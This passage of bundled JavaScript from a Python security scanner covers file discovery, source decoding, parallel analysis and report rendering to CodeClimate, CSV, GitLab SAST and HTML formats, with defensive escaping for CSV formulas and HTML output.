  return new ConfigError(`invalid configuration ${file}: ${key}: ${reason2}`);
}
function typeName(v) {
  if (Array.isArray(v)) return "an array";
  if (isTable(v)) return "a table";
  if (typeof v === "string") return "a string";
  if (typeof v === "number" || typeof v === "bigint") return "a number";
  if (typeof v === "boolean") return "a boolean";
  return "a date";
}
function isTable(v) {
  return typeof v === "object" && v !== null && !Array.isArray(v) && !(v instanceof Date);
}
function readConfigText(file) {
  let size;
  try {
    size = statSync(file).size;
  } catch (e) {
    throw new ConfigError(`cannot read configuration file ${file}: ${e.code ?? e.message}`);
  }
  if (size > MAX_CONFIG_BYTES) throw new ConfigError(`configuration file ${file} is over ${MAX_CONFIG_BYTES / 1024} KB; refusing to read it`);
  try {
    return readFileSync(file, "utf8").replace(/^\uFEFF/, "");
  } catch (e) {
    throw new ConfigError(`cannot read configuration file ${file}: ${e.code ?? e.message}`);
  }
}
function isFile(path) {
  try {
    return statSync(path).isFile();
  } catch {
    return false;
  }
}
function isDirectory(path) {
  try {
    return statSync(path).isDirectory();
  } catch {
    return false;
  }
}
function configExcluder(config) {
  if (!config?.exclude.length) return () => false;
  const names = config.exclude.filter((p) => !p.includes("/"));
  const paths = config.exclude.filter((p) => p.includes("/"));
  const matchesName = names.length ? (0, import_picomatch.default)(names, { dot: true }) : () => false;
  const matchesPath = paths.length ? (0, import_picomatch.default)(paths, { dot: true }) : () => false;
  return (absPath) => {
    const native = relative(config.baseDir, absPath);
    if (!native || isAbsolute(native) || native === ".." || native.startsWith(".." + sep)) return false;
    const parts2 = native.split(sep);
    for (let i2 = 1; i2 <= parts2.length; i2++) {
      const path = parts2.slice(0, i2).join("/");
      if (matchesName(parts2[i2 - 1]) || matchesPath(path) || i2 < parts2.length && matchesPath(path + "/")) return true;
    }
    return false;
  };
}
function prunableExcludes(config) {
  return config?.exclude.filter((p) => !p.includes("/")) ?? [];
}

// src/project/discover.ts
var import_ignore = __toESM(require_ignore(), 1);
var import_picomatch2 = __toESM(require_picomatch2(), 1);
import { lstat, open as open2, readdir, readFile as readFile2, realpath, stat } from "node:fs/promises";
import { basename as basename2, join as join4, relative as relative2, resolve as resolve3, sep as sep2 } from "node:path";
var DEFAULT_EXCLUDED_DIRS = /* @__PURE__ */ new Set([
  ".git",
  ".hg",
  ".svn",
  "node_modules",
  "__pycache__",
  ".venv",
  "venv",
  ".env",
  "env",
  ".tox",
  ".nox",
  "site-packages",
  "dist-packages",
  ".mypy_cache",
  ".pytest_cache",
  ".ruff_cache",
  ".eggs",
  "build",
  "dist",
  ".idea",
  ".vscode",
  ".pathfinder-cache"
]);
var PYTHON_EXTENSIONS = [".py", ".pyw"];
var TEST_FILE = /(^|\/)(test_[^/]*\.py|[^/]*_test\.py|conftest\.py)$/;
var TEST_DIR = /(^|\/)(tests?|testing)(\/|$)/;
async function discover(root, options) {
  const absRoot = resolve3(root);
  const files = [];
  const errors = [];
  const isIncluded = options.include.length ? (0, import_picomatch2.default)(options.include, { dot: true }) : () => true;
  const isExcluded = options.exclude.length ? (0, import_picomatch2.default)(options.exclude, { dot: true }) : () => false;
  const bareNames = options.exclude.filter((p) => !p.replace(/\/+$/, "").includes("/"));
  const isExcludedName = bareNames.length ? (0, import_picomatch2.default)(bareNames, { dot: true }) : () => false;
  const excludedPath = (rel) => isExcluded(rel) || isExcludedName(basename2(rel));
  const rootStat = await stat(absRoot);
  if (!rootStat.isDirectory()) {
    const rel = basename2(absRoot);
    files.push({ absPath: absRoot, relPath: rel, size: rootStat.size, kind: await classify2(absRoot, rel) });
    return { files, errors };
  }
  const stack = [{ dir: absRoot, ignores: [], ancestors: /* @__PURE__ */ new Set() }];
  while (stack.length) {
    const { dir, ignores: inherited, ancestors } = stack.pop();
    let real;
    try {
      real = await realpath(dir);
    } catch (e) {
      errors.push(problem(absRoot, dir, "unreadable", `cannot resolve directory: ${reason(e)}`));
      continue;
    }
    if (ancestors.has(real)) {
      errors.push(problem(absRoot, dir, "symlink-loop", "symbolic link loop: directory links back to one of its parents; skipped"));
      continue;
    }
    const lineage = new Set(ancestors).add(real);
    let entries;
    try {
      entries = await readdir(dir, { withFileTypes: true });
    } catch (e) {
      errors.push(problem(absRoot, dir, "unreadable", `cannot read directory: ${reason(e)}`));
      continue;
    }
    const ignores = options.gitignore ? await withGitignore(dir, inherited) : inherited;
    entries.sort((a, b) => a.name < b.name ? -1 : a.name > b.name ? 1 : 0);
    for (const entry of entries) {
      const abs = join4(dir, entry.name);
      const rel = toPosix(relative2(absRoot, abs));
      let isDir = entry.isDirectory();
      let isFile2 = entry.isFile();
      let size = 0;
      if (entry.isSymbolicLink()) {
        try {
          const target = await stat(abs);
          isDir = target.isDirectory();
          isFile2 = target.isFile();
          size = target.size;
        } catch (e) {
          const loop = e.code === "ELOOP";
          errors.push(problem(absRoot, abs, loop ? "symlink-loop" : "unreadable", loop ? "symbolic link loop; skipped" : `broken symbolic link: ${reason(e)}`));
          continue;
        }
      }
      if (isDir) {
        if (DEFAULT_EXCLUDED_DIRS.has(entry.name) || excludedPath(rel) || excludedPath(rel + "/")) continue;
        if (isIgnored(ignores, abs, true)) continue;
        if (options.skipTests && TEST_DIR.test(rel)) continue;
        stack.push({ dir: abs, ignores, ancestors: lineage });
      } else if (isFile2) {
        if (excludedPath(rel) || !isIncluded(rel) || isIgnored(ignores, abs, false)) continue;
        if (options.skipTests && (TEST_FILE.test(rel) || TEST_DIR.test(rel))) continue;
        if (!size) {
          try {
            size = (await lstat(abs)).size;
          } catch (e) {
            errors.push(problem(absRoot, abs, "unreadable", `cannot stat file: ${reason(e)}`));
            continue;
          }
        }
        files.push({ absPath: abs, relPath: rel, size, kind: await classify2(abs, rel) });
      }
    }
  }
  files.sort((a, b) => a.relPath < b.relPath ? -1 : a.relPath > b.relPath ? 1 : 0);
  return { files, errors };
}
async function classify2(abs, rel) {
  const lower = rel.toLowerCase();
  if (PYTHON_EXTENSIONS.some((e) => lower.endsWith(e))) return "python";
  if (basename2(rel).includes(".")) return "other";
  try {
    const head = (await readFileHead(abs, 128)).toString("latin1");
    if (/^#!.*\bpython[0-9.]*\b/.test(head)) return "python";
  } catch {
  }
  return "other";
}
async function readFileHead(abs, bytes) {
  const fh = await open2(abs, "r");
  try {
    const buf = Buffer.alloc(bytes);
    const { bytesRead } = await fh.read(buf, 0, bytes, 0);
    return buf.subarray(0, bytesRead);
  } finally {
    await fh.close();
  }
}
async function withGitignore(dir, inherited) {
  let text;
  try {
    text = await readFile2(join4(dir, ".gitignore"), "utf8");
  } catch {
    return inherited;
  }
  return [...inherited, { base: dir, rules: (0, import_ignore.default)().add(text) }];
}
function isIgnored(ignores, abs, isDir) {
  for (const { base, rules } of ignores) {
    const rel = toPosix(relative2(base, abs));
    if (!rel || rel.startsWith("..")) continue;
    if (rules.ignores(isDir ? rel + "/" : rel)) return true;
  }
  return false;
}
function problem(root, abs, kind, message15) {
  return { file: toPosix(relative2(root, abs)) || ".", kind, level: "warning", message: message15 };
}
function reason(e) {
  const err2 = e;
  return err2.code ? `${err2.code} ${err2.message.replace(/^[A-Z]+: /, "")}` : String(e);
}
function toPosix(p) {
  return sep2 === "/" ? p : p.split(sep2).join("/");
}

// src/project/module-name.ts
function moduleNameOf(relPath) {
  const parts2 = relPath.replace(/\.pyw?$/i, "").split("/");
  let start2 = 0;
  for (let i2 = parts2.length - 1; i2 >= 0; i2--) {
    if (!/^[A-Za-z_][A-Za-z0-9_]*$/.test(parts2[i2])) {
      start2 = i2 + 1;
      break;
    }
  }
  return parts2.slice(start2).join(".");
}

// src/project/read-source.ts
var CODING_COOKIE = /^[ \t\f]*#.*?coding[:=][ \t]*([-\w.]+)/;
function decodePython(bytes, relPath, maxBytes) {
  if (bytes.length > maxBytes) return { ok: false, error: tooLarge(relPath, bytes.length, maxBytes) };
  if (looksBinary(bytes)) {
    return { ok: false, error: warn(relPath, "binary", "binary content (NUL bytes) in a Python file; skipped") };
  }
  const decoder = declaredDecoder(bytes);
  if (decoder) return { ok: true, source: decoder.decode(bytes) };
  try {
    return { ok: true, source: new TextDecoder("utf-8", { fatal: true }).decode(bytes) };
  } catch {
    return {
      ok: true,
      source: new TextDecoder("utf-8").decode(bytes),
      warning: warn(relPath, "encoding", "file is not valid UTF-8; invalid bytes were replaced and the rest was scanned")
    };
  }
}
function declaredDecoder(bytes) {
  const encoding = declaredEncoding(bytes);
  return encoding && !/^utf[-_]?8([-_]sig)?$/i.test(encoding) ? decoderFor(encoding) : void 0;
}
function decoderFor(codec) {
  for (const label of [codec, codec.replace(/_/g, "-"), codec.replace(/[-_]/g, "")]) {
    try {
      return new TextDecoder(label);
    } catch {
    }
  }
  return void 0;
}
function looksBinary(bytes) {
  const n = Math.min(bytes.length, 8192);
  for (let i2 = 0; i2 < n; i2++) if (bytes[i2] === 0) return true;
  return false;
}
function declaredEncoding(bytes) {
  const head = new TextDecoder("latin1").decode(bytes.subarray(0, 400)).split(/\r?\n/, 2);
  for (const line of head) {
    const m = CODING_COOKIE.exec(line);
    if (m) return m[1];
    if (!/^[ \t\f]*(#.*)?$/.test(line)) break;
  }
  return void 0;
}
function tooLarge(relPath, size, maxBytes) {
  return warn(relPath, "too-large", `file is ${formatBytes(size)}, over the ${formatBytes(maxBytes)} limit (--max-file-size); skipped`);
}
function warn(file, kind, message15) {
  return { file, kind, level: "warning", message: message15 };
}
function formatBytes(n) {
  if (n >= 1024 * 1024) return `${(n / (1024 * 1024)).toFixed(1)} MB`;
  if (n >= 1024) return `${(n / 1024).toFixed(1)} KB`;
  return `${n} B`;
}

// src/project/worker-pool.ts
import { Worker } from "node:worker_threads";
var IN_FLIGHT_PER_WORKER = 2;
async function sharedQueueAnalyzer(spec, rules, workerCount) {
  const url = new URL("./worker.js", import.meta.url);
  const queue = [];
  let sorted = true;
  let nextId = 0;
  let localBusy = false;
  let pumpScheduled = false;
  const parser = await loadPythonParser();
  const index = new SinkIndex(rules);
  const slots = Array.from({ length: workerCount }, () => {
    const slot = { worker: new Worker(url, { workerData: { spec } }), running: /* @__PURE__ */ new Map() };
    slot.worker.on("message", (msg) => {
      if (msg.id === void 0) return;
      const job = slot.running.get(msg.id);
      slot.running.delete(msg.id);
      job?.resolve(msg.result);
      pump();
    });
    const fail = (e) => {
      if (slot.failure) return;
      slot.failure = e;
      for (const job of slot.running.values()) queue.push(job);
      slot.running.clear();
      sorted = false;
      pump();
    };
    slot.worker.on("error", fail);
    slot.worker.on("exit", (code3) => code3 !== 0 && fail(new Error(`analysis worker exited with code ${code3}`)));
    return slot;
  });
  function pump() {
    if (!sorted) {
      queue.sort((a, b) => b.file.source.length - a.file.source.length);
      sorted = true;
    }
    for (const slot of slots) {
      while (!slot.failure && slot.running.size < IN_FLIGHT_PER_WORKER && queue.length) {
        const job = queue.shift();
        const id = nextId++;
        slot.running.set(id, job);
        slot.worker.postMessage({ id, file: job.file });
      }
    }
    if (!localBusy && queue.length) {
      localBusy = true;
      setImmediate(runLocal);
    }
  }
  function runLocal() {
    const job = queue.pop();
    if (job) job.resolve(analyzeSafely(() => analyzePython(parser, job.file, index), job.file.path));
    localBusy = false;
    pump();
  }
  return {
    analyze(file) {
      return new Promise((resolve9) => {
        queue.push({ file, resolve: resolve9 });
        sorted = false;
        if (!pumpScheduled) {
          pumpScheduled = true;
          queueMicrotask(() => {
            pumpScheduled = false;
            pump();
          });
        }
      });
    },
    async close() {
      await Promise.all(slots.map((s) => s.worker.terminate()));
    }
  };
}

// src/project/scan.ts
var WORKER_THRESHOLD_BYTES = 2 * 1024 * 1024;
var READ_CONCURRENCY = 32;
async function scanProject(options) {
  const started = Date.now();
  const config = options.config;
  const split = splitRulesets(options.rulesets);
  if ("error" in split) throw new UsageError(split.error);
  const disabled = new Set((config?.disable ?? []).map((id) => id.toUpperCase()));
  const artifactRules = split.artifactRules.filter((r) => !disabled.has(r.id.toUpperCase())).map((r) => config?.rules[r.id]?.severity ? { ...r, severity: config.rules[r.id].severity } : r);
  let spec = { ruleIds: [] };
  if (split.runPython) {
    const settings = { disable: config?.disable, customizations: config?.rules, source: config?.file, allowEmpty: artifactRules.length > 0 };
    const resolution = ruleSetSpec(split.python, settings);
    if (!resolution.ok) throw new UsageError(resolution.error);
    spec = resolution.spec;
  }
  const rules = buildRuleSet(spec);
  const target = resolve4(options.target);
  let discovery;
  try {
    discovery = await discover(target, { ...options, exclude: [...options.exclude, ...prunableExcludes(config)] });
  } catch (e) {
    throw new UsageError(`cannot scan "${options.target}": ${e.code === "ENOENT" ? "no such file or directory" : e.message}`);
  }
  const excluded = configExcluder(config);
  const root = (await stat2(target)).isDirectory() ? target : dirname3(target);
  const errors = discovery.errors.filter((e) => !excluded(join5(root, e.file)));
  const findings = [];
  const pythonFiles = rules.length > 0 ? discovery.files.filter((f) => f.kind === "python" && !excluded(f.absPath)) : [];
  const artifactScan = artifactRules.length > 0 ? scanArtifactFiles(discovery.files.filter((f) => f.kind === "other" && !excluded(f.absPath)), options.pickle ?? {}) : void 0;
  const candidates = await readCandidates(pythonFiles, rules, options.maxFileSize, errors, options.onSourceRead);
  const analyzer = await chooseAnalyzer(spec, rules, candidates, options.jobs);
  let done = 0;
  try {
    const results = await Promise.all(
      candidates.map(async (c) => {
        const result2 = await analyzer.analyze({ path: c.file.relPath, source: c.source, moduleName: moduleNameOf(c.file.relPath) });
        options.onProgress?.(++done, candidates.length);
        return result2;
      })
    );
    for (const r of results) {
      findings.push(...r.findings);
      errors.push(...r.errors);
    }
  } finally {
    await analyzer.close();
  }
  let artifactsScanned = 0;
  if (artifactScan) {
    const enabled = new Set(artifactRules.map((r) => r.id));
    const artifacts = await artifactScan;
    for (const f of artifacts.findings) {
      if (!enabled.has(f.ruleId)) continue;
      const severity = config?.rules[f.ruleId]?.severity;
      findings.push(severity ? { ...f, severity } : f);
    }
    errors.push(...artifacts.errors);
    artifactsScanned = artifacts.scanned;
  }
  findings.sort(compareFindings);
  errors.sort(compareErrors);
  return {
    tool: options.tool,
    scan: {
      target,
      timestamp: new Date(started).toISOString(),
      durationMs: Date.now() - started,
      rulesExecuted: [...rules.map((r) => r.id), ...artifactRules.map((r) => r.id)],
      filesScanned: pythonFiles.length + artifactsScanned
    },
    rules: [...rules.map(ruleMeta), ...artifactRules],
    findings,
    errors
  };
}
async function readCandidates(files, rules, maxBytes, errors, onSourceRead) {
  const tokens = [...new Set(rules.flatMap((r) => r.prefilter))].map((t) => Buffer.from(t, "utf8"));
  const out2 = new Array(files.length);
  let next = 0;
  const worker = async () => {
    for (let i2 = next++; i2 < files.length; i2 = next++) {
      const file = files[i2];
      if (file.size > maxBytes) {
        errors.push(tooLarge(file.relPath, file.size, maxBytes));
        continue;
      }
      let bytes;
      try {
        bytes = await readFile3(file.absPath);
      } catch (e) {
        const err2 = e;
        errors.push({ file: file.relPath, kind: "unreadable", level: "warning", message: `cannot read file: ${err2.code ?? err2.message}` });
        continue;
      }
      if (!tokens.some((t) => bytes.includes(t)) && !mayImportDynamically(bytes)) continue;
      const decoded = decodePython(bytes, file.relPath, maxBytes);
      if (!decoded.ok) {
        errors.push(decoded.error);
        continue;
      }
      if (decoded.warning) errors.push(decoded.warning);
      onSourceRead?.(file, bytes);
      out2[i2] = { file, source: decoded.source };
    }
  };
  await Promise.all(Array.from({ length: Math.min(READ_CONCURRENCY, files.length) }, worker));
  return out2.filter((c) => c !== void 0);
}
var DYNAMIC_IMPORT_TOKENS = [Buffer.from("__import__"), Buffer.from("import_module")];
function mayImportDynamically(bytes) {
  return DYNAMIC_IMPORT_TOKENS.some((t) => bytes.includes(t)) && hasComputedDynamicImport(bytes.toString("latin1"));
}
async function chooseAnalyzer(spec, rules, candidates, jobs) {
  const bytes = candidates.reduce((n, c) => n + c.source.length, 0);
  const size = jobs ?? (bytes >= WORKER_THRESHOLD_BYTES ? Math.max(1, Math.min(availableParallelism() - 1, 8)) : 0);
  return size > 0 ? sharedQueueAnalyzer(spec, rules, size) : inProcessAnalyzer(rules);
}

// src/ci/command.ts
import { resolve as resolve7 } from "node:path";
import { parseArgs as parseArgs2 } from "node:util";

// src/report/codeclimate.ts
var SEVERITY = { critical: "blocker", high: "critical", medium: "major", low: "minor" };
function renderCodeClimate(report, options = {}) {
  const prefix = options.pathPrefix ? options.pathPrefix.endsWith("/") ? options.pathPrefix : `${options.pathPrefix}/` : "";
  const seen = /* @__PURE__ */ new Map();
  const issues = report.findings.filter((f) => options.showSuppressed === true || !f.suppressed).map((finding) => {
    const count = seen.get(finding.fingerprint) ?? 0;
    seen.set(finding.fingerprint, count + 1);
    return {
      type: "issue",
      check_name: finding.ruleId,
      description: `${finding.ruleName}: ${finding.message}`,
      categories: ["Security"],
      fingerprint: count === 0 ? finding.fingerprint : `${finding.fingerprint}#${count}`,
      severity: SEVERITY[finding.severity],
      location: {
        path: prefix + finding.location.file,
        lines: { begin: finding.location.line, end: Math.max(finding.location.line, finding.location.endLine) }
      }
    };
  });
  return `${JSON.stringify(issues, null, 2)}
`;
}

// src/report/summary.ts
function summarize(report) {
  const bySeverity = Object.fromEntries(SEVERITIES.map((s) => [s, 0]));
  let total = 0;
  let suppressed = 0;
  for (const finding of report.findings) {
    if (finding.suppressed) {
      suppressed++;
    } else {
      total++;
      bySeverity[finding.severity]++;
    }
  }
  return { total, bySeverity, suppressed };
}
function visibleFindings(report, showSuppressed) {
  return showSuppressed ? report.findings : report.findings.filter((f) => !f.suppressed);
}

// src/report/csv.ts
var CSV_COLUMNS = [
  "rule_id",
  "rule_name",
  "severity",
  "confidence",
  "file",
  "line",
  "column",
  "end_line",
  "end_column",
  "message",
  "cwe",
  "owasp",
  "fingerprint"
];
function renderCsv(report, options) {
  const header = [...CSV_COLUMNS];
  if (options.showSuppressed) header.push("suppressed");
  const rows = [header.map(csvCell).join(",")];
  for (const finding of visibleFindings(report, options.showSuppressed)) {
    const cells = rowFor(finding);
    if (options.showSuppressed) cells.push(finding.suppressed?.kind ?? "");
    rows.push(cells.map(csvCell).join(","));
  }
  return rows.join("\n") + "\n";
}
function rowFor(f) {
  const loc = f.location;
  return [
    f.ruleId,
    f.ruleName,
    f.severity,
    f.confidence,
    loc.file,
    loc.line,
    loc.column,
    loc.endLine,
    loc.endColumn,
    f.message,
    f.cwe.join(";"),
    f.owasp.join(";"),
    f.fingerprint
  ];
}
var FORMULA_TRIGGER = /^[=+\-@\t\r]/;
function csvCell(value) {
  let text = String(value);
  if (typeof value === "string" && FORMULA_TRIGGER.test(text)) text = "'" + text;
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

// src/report/gitlab-sast.ts
var GITLAB_SAST_SCHEMA_VERSION = "15.0.6";
var SCHEMA_URL = `https://gitlab.com/gitlab-org/security-products/security-report-schemas/-/raw/v${GITLAB_SAST_SCHEMA_VERSION}/dist/sast-report-format.json`;
var SEVERITY2 = { critical: "Critical", high: "High", medium: "Medium", low: "Low" };
function gitlabTime(date) {
  return date.toISOString().slice(0, 19);
}
function fnv1a(text, seed) {
  let hash = (2166136261 ^ seed) >>> 0;
  for (let i2 = 0; i2 < text.length; i2++) {
    hash ^= text.charCodeAt(i2);
    hash = Math.imul(hash, 16777619) >>> 0;
  }
  return hash >>> 0;
}
function vulnerabilityId(fingerprint) {
  const hex = [0, 1, 2, 3].map((seed) => fnv1a(fingerprint, seed * 2654435769).toString(16).padStart(8, "0")).join("");
  const variant = (parseInt(hex[16], 16) & 3 | 8).toString(16);
  return `${hex.slice(0, 8)}-${hex.slice(8, 12)}-5${hex.slice(13, 16)}-${variant}${hex.slice(17, 20)}-${hex.slice(20, 32)}`;
}
function withPrefix(prefix, file) {
  if (!prefix) return file;
  return `${prefix.endsWith("/") ? prefix : `${prefix}/`}${file}`;
}
function identifiers(finding, informationUri) {
  const primary = {
    type: "pathfinder_rule_id",
    name: `${finding.ruleId} ${finding.ruleName}`.slice(0, 255),
    value: finding.ruleId
  };
  if (informationUri && /^https?:\/\/.+/.test(informationUri)) {
    primary.url = `${informationUri.replace(/\/+$/, "")}/rules/${encodeURIComponent(finding.ruleId)}`;
  }
  const ids = [primary];
  for (const cwe of finding.cwe) {
    const number = /^CWE-(\d+)$/i.exec(cwe)?.[1];
    if (number) ids.push({ type: "cwe", name: cwe, value: number, url: `https://cwe.mitre.org/data/definitions/${number}.html` });
  }
  for (const owasp of finding.owasp) ids.push({ type: "owasp", name: `OWASP ${owasp}`, value: owasp });
  return ids;
}
function description(finding, rule) {
  const parts2 = [finding.message];
  if (rule?.docs.description) parts2.push(rule.docs.description);
  if (rule?.docs.securityImplications) parts2.push(rule.docs.securityImplications);
  return parts2.join("\n\n").slice(0, 1048576);
}
function renderGitLabSast(report, options = {}) {
  const rules = new Map(report.rules.map((rule) => [rule.id, rule]));
  const start2 = new Date(report.scan.timestamp);
  const end = new Date(start2.getTime() + Math.max(0, report.scan.durationMs));
  const tool = {
    id: report.tool.name.toLowerCase().replace(/[^a-z0-9-]+/g, "-") || "pathfinder",
    name: report.tool.name,
    vendor: { name: report.tool.name },
    version: report.tool.version || "0.0.0"
  };
  if (report.tool.informationUri && /^https?:\/\/.+/.test(report.tool.informationUri)) tool.url = report.tool.informationUri;
  const findings = report.findings.filter((f) => options.showSuppressed === true || !f.suppressed);
  const seenIds = /* @__PURE__ */ new Set();
  const vulnerabilities = findings.map((finding) => {
    const rule = rules.get(finding.ruleId);
    let id = vulnerabilityId(finding.fingerprint);
    for (let n = 1; seenIds.has(id); n++) id = vulnerabilityId(`${finding.fingerprint}#${n}`);
    seenIds.add(id);
    const vulnerability = {
      id,
      category: "sast",
      name: finding.ruleName.slice(0, 255),
      message: finding.message,
      description: description(finding, rule),
      severity: SEVERITY2[finding.severity],
      confidence: finding.confidence.charAt(0).toUpperCase() + finding.confidence.slice(1),
      identifiers: identifiers(finding, report.tool.informationUri),
      location: {
        file: withPrefix(options.pathPrefix, finding.location.file),
        start_line: finding.location.line,
        end_line: Math.max(finding.location.line, finding.location.endLine)
      }
    };
    const solution = rule?.docs.howToFix || rule?.docs.fixHint;
    if (solution) vulnerability.solution = solution.slice(0, 7e3);
    const links = (rule?.docs.references ?? []).filter((ref) => /^(https?|ftp):\/\/.+/.test(ref.url));
    if (links.length > 0) vulnerability.links = links.map((ref) => ({ name: ref.title, url: ref.url }));
    if (finding.location.snippet) vulnerability.raw_source_code_extract = finding.location.snippet;
    return vulnerability;
  });
  const messages = report.errors.filter((error) => error.message.length > 0).map((error) => ({ level: "warn", value: `${error.file}: ${error.message}` }));
  const sast = {
    version: GITLAB_SAST_SCHEMA_VERSION,
    schema: SCHEMA_URL,
    scan: {
      analyzer: tool,
      scanner: tool,
      type: "sast",
      start_time: gitlabTime(start2),
      end_time: gitlabTime(end),
      status: "success",
      ...messages.length > 0 ? { messages } : {}
    },
    vulnerabilities
  };
  return `${JSON.stringify(sast, null, 2)}
`;
}

// src/report/html/escape.ts
var ENTITIES = { "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;" };
function escapeHtml(text) {
  return text.replace(/[&<>"']/g, (ch) => ENTITIES[ch]).replace(/\r\n?/g, "\n").replace(
    /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/g,
    (ch) => String.fromCharCode(ch === "\x7F" ? 9249 : 9216 + ch.charCodeAt(0))
  ).replace(/[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]/g, (ch) => `&lt;U+${ch.charCodeAt(0).toString(16).toUpperCase().padStart(4, "0")}&gt;`);
}
function safeHref(url) {
  const trimmed = url.trim();
  if (/^(https?:|mailto:)/i.test(trimmed)) return escapeHtml(trimmed);
  if (/^[a-z][a-z0-9+.-]*:/i.test(trimmed) || trimmed.startsWith("//")) return "#";
  return escapeHtml(trimmed);
}
function slug(text) {
  return text.replace(/[^A-Za-z0-9_-]+/g, "-").replace(/^-+|-+$/g, "") || "x";
}

// src/report/html/components.ts
function severityBadge(severity) {
  return `<span class="badge badge-${severity}">${severity}</span>`;
}
function codeFrameHtml(location, source, options = {}) {
  const context = options.context ?? 2;
  const maxRegion = options.maxRegionLines ?? 8;
  const start2 = Math.max(1, location.line);
  const end = Math.max(start2, location.endLine);
  let lines;
  if (source && start2 <= source.length) {
    const first = Math.max(1, start2 - context);
    const last = Math.min(source.length, end + context);
    lines = [];
    for (let n = first; n <= last; n++) lines.push({ number: n, text: source[n - 1] ?? "", inRegion: n >= start2 && n <= end });
  } else {
    if (location.snippet.trim() === "") return "";
    lines = location.snippet.split(/\r\n|\r|\n/).slice(0, end - start2 + 1).map((text, i2) => ({ number: start2 + i2, text, inRegion: true }));
  }
  const region2 = lines.filter((l) => l.inRegion);
  let omitted = 0;
  if (region2.length > maxRegion) {
    const keep = new Set([...region2.slice(0, maxRegion - 1), region2[region2.length - 1]].map((l) => l.number));
    omitted = region2.length - keep.size;
    lines = lines.filter((l) => !l.inRegion || keep.has(l.number));
  }
  const rows = [];
  let previous;
  for (const line of lines) {
    if (previous !== void 0 && line.number > previous + 1) {
      rows.push(`<span class="line gap"><span class="ln" aria-hidden="true">\u22EE</span><span class="muted">${omitted} more line${omitted === 1 ? "" : "s"}</span></span>`);
    }
    previous = line.number;
    const body2 = line.inRegion ? markRegion(line, location, start2, end) : escapeHtml(line.text);
    rows.push(`<span class="line${line.inRegion ? " in-region" : ""}"><span class="ln">${line.number}</span><span class="src">${body2}</span></span>`);
  }
  return `<pre class="code-frame" aria-label="Code at line ${start2}"><code>${rows.join("\n")}</code></pre>`;
}
function markRegion(line, location, startLine, endLine) {
  const text = line.text;
  const firstNonBlank = text.search(/\S/) + 1 || 1;
  const from = clamp(line.number === startLine ? location.column : firstNonBlank, 1, text.length + 1);
  const to = clamp(line.number === endLine ? location.endColumn : text.length + 1, from, text.length + 1);
  if (to === from) return escapeHtml(text);
  return `${escapeHtml(text.slice(0, from - 1))}<mark>${escapeHtml(text.slice(from - 1, to - 1))}</mark>${escapeHtml(text.slice(to - 1))}`;
}
function clamp(n, lo, hi) {
  return Math.min(Math.max(Number.isFinite(n) ? Math.trunc(n) : lo, lo), hi);
}
function barChartSvg(id, title, bars) {
  const rowHeight = 26;
  const labelWidth = Math.min(260, Math.max(80, ...bars.map((b) => b.label.length * 7.2 + 12)));
  const barArea = 220;
  const width = labelWidth + barArea + 50;
  const height = Math.max(1, bars.length) * rowHeight + 8;
  const max = Math.max(1, ...bars.map((b) => b.value));
  const rows = bars.map((b, i2) => {
    const y = 4 + i2 * rowHeight;
    const w = b.value === 0 ? 0 : Math.max(2, Math.round(b.value / max * barArea));
    return `<text x="${labelWidth - 8}" y="${y + 17}" text-anchor="end">${escapeHtml(truncate(b.label, 36))}</text><rect class="${escapeHtml(b.className)}" x="${labelWidth}" y="${y + 4}" width="${w}" height="${rowHeight - 8}" rx="3"></rect><text x="${labelWidth + w + 6}" y="${y + 17}">${b.value}</text>`;
  });
  const desc = bars.map((b) => `${b.label}: ${b.value}`).join(", ");
  return `<svg class="chart" id="${escapeHtml(id)}" role="img" aria-labelledby="${escapeHtml(id)}-title ${escapeHtml(id)}-desc" viewBox="0 0 ${Math.round(width)} ${height}" width="${Math.round(width)}" height="${height}" xmlns="http://www.w3.org/2000/svg"><title id="${escapeHtml(id)}-title">${escapeHtml(title)}</title><desc id="${escapeHtml(id)}-desc">${escapeHtml(desc || "no data")}</desc><line class="axis" x1="${labelWidth}" y1="0" x2="${labelWidth}" y2="${height}"></line>` + rows.join("") + `</svg>`;
}
function truncate(text, max) {
  return text.length > max ? text.slice(0, max - 1) + "\u2026" : text;
}

// src/report/html/markdown.ts
function codeSpans(text) {
  return text.split(/(`[^`\n]+`)/).map((piece) => /^`[^`\n]+`$/.test(piece) ? `<code>${escapeHtml(piece.slice(1, -1))}</code>` : escapeHtml(piece)).join("");
}

// src/report/html/styles.ts
var BASE_CSS = `
:root {
  color-scheme: light dark;
  --bg: #f7f8fa; --surface: #ffffff; --surface-2: #eef1f5; --border: #cfd6df;
  --text: #1b2330; --muted: #4a5566; --accent: #0b57d0; --accent-text: #ffffff; --focus: #0b57d0;
  --mark: #ffe08a; --mark-text: #1b2330; --code-bg: #f1f3f6;
  --sev-critical: #7a1020; --sev-high: #b3261e; --sev-medium: #8a4b00; --sev-low: #1f5fbf;
  --hl-keyword: #8f1d8a; --hl-string: #0f6b2f; --hl-comment: #5a6473; --hl-number: #9a3412; --hl-def: #0b4fa8;
  --hl-builtin: #6b3fa0; --hl-operator: #3b4657;
  --radius: 8px; --mono: ui-monospace, "SFMono-Regular", "DejaVu Sans Mono", Menlo, Consolas, monospace;
  --sans: system-ui, -apple-system, "Segoe UI", Roboto, "Noto Sans", "DejaVu Sans", sans-serif;
}
@media (prefers-color-scheme: dark) {
  :root {
    --bg: #12161c; --surface: #1a2029; --surface-2: #232b36; --border: #3a4656;
    --text: #e6ebf2; --muted: #aab4c3; --accent: #8ab4f8; --accent-text: #0d1117; --focus: #8ab4f8;
    --mark: #6b5200; --mark-text: #fff6d6; --code-bg: #151a21;
    --hl-keyword: #e39bdc; --hl-string: #8fd19e; --hl-comment: #9aa5b4; --hl-number: #f5b37a; --hl-def: #8ab4f8;
    --hl-builtin: #c9a8f5; --hl-operator: #c8d1dc;
  }
}
*, *::before, *::after { box-sizing: border-box; }
html { -webkit-text-size-adjust: 100%; }
body { margin: 0; background: var(--bg); color: var(--text); font: 15px/1.55 var(--sans); }
a { color: var(--accent); }
a:hover { text-decoration-thickness: 2px; }
:focus-visible { outline: 3px solid var(--focus); outline-offset: 2px; }
code, pre, kbd { font-family: var(--mono); font-size: 0.92em; }
code { background: var(--code-bg); border: 1px solid var(--border); border-radius: 4px; padding: 0 0.25em; }
pre code { background: none; border: 0; padding: 0; }
h1, h2, h3 { line-height: 1.25; }
